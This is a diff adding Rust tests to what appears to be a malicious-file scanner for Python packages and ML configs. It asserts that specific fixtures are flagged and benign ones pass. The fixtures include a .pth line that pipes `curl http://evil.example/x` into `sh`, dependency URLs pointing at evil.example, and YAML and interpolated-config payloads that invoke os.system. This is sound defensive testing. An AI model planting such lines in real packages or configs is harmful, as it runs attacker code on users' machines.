@@ -167,6 +167,44 @@ fn what_other_configurations_make_loaders_do() {
 }
 
 #[test]
+fn what_starts_python_or_builds_a_package() {
+    let hook = scan(&[("evil.pth", "/usr/lib/x\nimport os; os.system('curl http://evil.example/x | sh')\n")]);
+    assert_eq!(worst(&hook, "SNS-541"), Some(Severity::High), "{hook:?}");
+    let plain = scan(&[("x.pth", "/usr/lib/x\n")]);
+    assert_eq!((worst(&plain, "SNS-541"), plain.verdict), (None, Verdict::Clean), "{plain:?}");
+    for (name, text) in [
+        ("pyproject.toml", "[build-system]\nrequires = ['setuptools', 'x @ https://evil.example/x.whl']\n"),
+        ("environment.yml", "channels:\n  - https://evil.example/conda\n"),
+        ("conda.yaml", "dependencies:\n  - pip:\n    - \"https://evil.example/x.whl\"\n"),
+    ] {
+        let report = scan(&[(name, text)]);
+        assert_eq!(worst(&report, "SNS-531"), Some(Severity::Medium), "{name}: {report:?}");
+    }
+    for (name, text) in [
+        ("pyproject.toml", "[project]\nurls = { homepage = 'https://mine.example' }\nauthors = ['me@mine.example']\n"),
+        ("environment.yml", "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - torch>=2\n"),
+    ] {
+        assert_eq!(scan(&[(name, text)]).verdict, Verdict::Clean, "{name}");
+    }
+}
+
+#[test]
+fn configurations_that_are_put_together() {
+    let joined = scan(&[("config.yaml", "p: os\nq: system\nmodel:\n  _target_: ${p}.${.q}\n  command: id\n")]);
+    assert_eq!(worst(&joined, "SNS-521"), Some(Severity::High), "{joined:?}");
+    let plain = scan(&[("config.yaml", "name: Linear\nmodel:\n  _target_: torch.nn.${name}\n  other: ${open\n")]);
+    assert_eq!(plain.verdict, Verdict::Clean, "{plain:?}");
+    let wide: Vec<u8> =
+        "\u{feff}a: !!python/object/apply:os.system ['id']\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let source = crate::source::MemorySource::new(&wide, b"config.yaml");
+    let report = crate::scan(&source, &Limits::default(), &Policy::default());
+    assert_eq!(worst(&report, "SNS-522"), Some(Severity::High), "{report:?}");
+    // A graph that torch exported names its operators.
+    let graph = r#"{"graph": {"nodes": [{"target": "torch.ops.aten.linear.default", "inputs": []}]}}"#;
+    assert_eq!(scan(&[("model.json", graph)]).verdict, Verdict::Clean);
+}
+
+#[test]
 fn ordinary_repositories_are_quiet() {
     for (name, text) in [
         (
